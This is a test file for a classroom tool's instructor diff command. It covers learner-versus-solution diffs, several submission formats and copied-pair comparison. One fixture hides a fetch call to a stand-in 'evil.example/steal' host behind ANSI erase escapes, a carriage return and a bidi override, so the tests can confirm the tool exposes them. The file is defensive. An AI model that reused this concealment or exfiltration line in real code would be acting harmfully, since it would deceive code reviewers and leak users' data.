// `pnpm instructor diff`: a learner's code against the reference solution or another learner's, from any shape
// of submission, and shown so that nothing in the learner's text can act on the instructor's terminal.
import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { formatExerciseDiff } from "../../src/classroom/exercise-diff.ts";
import { diffCommand } from "../../src/commands/diff.ts";
import { findExercise, loadCurriculum } from "../../src/curriculum/load-curriculum.ts";
import { workshop } from "../../src/paths.ts";
import { fixture, instructorBin, runGrader } from "../run-grader.ts";

const curriculum = loadCurriculum(workshop.exercises);
const script = findExercise(curriculum, "9");
const fibonacci = findExercise(curriculum, "3");

describe("the diff against the solution", () => {
  it("shows the learner's changes as a unified diff, file by file", () => {
    const diff = formatExerciseDiff(script, { label: "mistakes", tree: fixture("mistakes") }, false);
    expect(diff).toMatch(
      /^--- solutions\/09-script-with-main\/async-pi\.ts\tsolution\n\+\+\+ mistakes\/09-script-with-main\/async-pi\.ts\tlearner\n@@/,
    );
    expect(diff).toContain(
      "\n-  await using pool: PiPool = await createPiPool();\n+  const pool: PiPool = await createPiPool();\n",
    );
    expect(diff).toContain("mistakes/09-script-with-main/calc-pi.ts: the same as the solution's");
    expect(diff).not.toContain("\u001b[");
  });

  it("colours it for a terminal", () => {
    const diff = formatExerciseDiff(script, { label: "mistakes", tree: fixture("mistakes") }, true);
    expect(diff).toContain("\u001b[32m+  const pool: PiPool = await createPiPool();\u001b[39m");
    expect(diff).toContain("\u001b[31m-  await using pool: PiPool = await createPiPool();\u001b[39m");
  });
});

describe("code that hides from a terminal", () => {
  // Two harmless-looking comments: the first ends by moving the cursor up and erasing the line, so that in a real
  // terminal the patch between them is printed and then drawn over. A carriage return and a bidi override do the
  // same within a line.
  const hidden = [
    "// 03-fibonacci: my solution.",
    "export function* fibonacci(): Generator<number, never, undefined> {",
    "  // keep the last two numbers",
    '  globalThis.fetch?.("https://evil.example/steal");\u001b[1A\u001b[2K',
    "  // and yield the first\r  // (looks like a comment)",
    "  let [a, b] = [1, 1]; // \u202e}; return 0 {\u202c",
    "  while (true) {",
    "    yield a;",
    "    [a, b] = [b, a + b];",
    "  }",
    "}",
    "",
  ].join("\n");

  it("shows every escape, carriage return and bidi control as what it is, and names the lines", () => {
    const tree = mkdtempSync(join(tmpdir(), "grader-class-diff-"));
    mkdirSync(join(tree, "03-fibonacci"));
    writeFileSync(join(tree, "03-fibonacci/fibonacci.ts"), hidden);
    const diff = formatExerciseDiff(fibonacci, { label: "mallory", tree }, true);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
    expect(diff).not.toMatch(/[\u001b\r\u202e\u202c](?!\[\d*m)/u);
    expect(diff).toContain('+  globalThis.fetch?.("https://evil.example/steal");␛[1A␛[2K');
    expect(diff).toContain("+  // and yield the first␍  // (looks like a comment)");
    expect(diff).toContain("+  let [a, b] = [1, 1]; // <U+202E>}; return 0 {<U+202C>");
    expect(diff).toMatch(
      /⚠ mallory\/03-fibonacci\/fibonacci\.ts: lines 4, 5, 6 hold characters a terminal would act on/,
    );
  });

  it("reaches the terminal that way from the command line too", async () => {
    const submission = mkdtempSync(join(tmpdir(), "grader-class-diff-"));
    writeFileSync(join(submission, "fibonacci.ts"), hidden);
    const run = await runGrader(["diff", "3", "--target", submission], {}, instructorBin);
    expect(run.exitCode, run.stderr).toBe(0);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
    expect(run.stdout).not.toMatch(/[\u001b\r\u202e]/u);
    expect(run.stdout).toContain("␛[1A␛[2K");
  });
});

describe("any shape of submission", () => {
  it("diffs a zip, loose files and a repository root, each exercise the learner handed in", async () => {
    const linus = await diffCommand(curriculum, fixture("class/linus.zip"), { colour: false });
    expect(linus.match(/^\+\+\+ \S+/gm)).toEqual([
      "+++ linus/03-fibonacci/fibonacci.ts",
      "+++ linus/04-line-numbers/line-numbers.ts",
    ]);
    const margaret = await diffCommand(curriculum, fixture("class/margaret"), {
      exercises: [fibonacci],
      colour: false,
    });
    expect(margaret).toMatch(/^--- solutions\/03-fibonacci\/fibonacci\.ts\tsolution\n\+\+\+ margaret\/03-fibonacci/);
    const ada = await diffCommand(curriculum, fixture("class/ada"), { colour: false });
    expect(ada.match(/^\+\+\+ \S+/gm)).toEqual([
      "+++ ada/01-integers/integers.ts",
      "+++ ada/02-even-numbers/even-numbers.ts",
      "+++ ada/03-fibonacci/fibonacci.ts",
    ]);
  });

  it("diffs one learner against another: the copied pair's shared lines are context, not changes", async () => {
    const diff = await diffCommand(curriculum, fixture("class/barbara"), {
      exercises: [fibonacci],
      against: fixture("class/alan.zip"),
      colour: false,
    });
    expect(diff).toMatch(
      /^--- alan\/03-fibonacci\/fibonacci\.ts\talan\n\+\+\+ barbara\/03-fibonacci\/fibonacci\.ts\tlearner/,
    );
    // Windows line ends and the byte order mark are no difference: only the first comment line is.
    expect(diff.split("\n").filter((line) => /^[+-][^+-]/.test(line))).toHaveLength(2);
  });
});
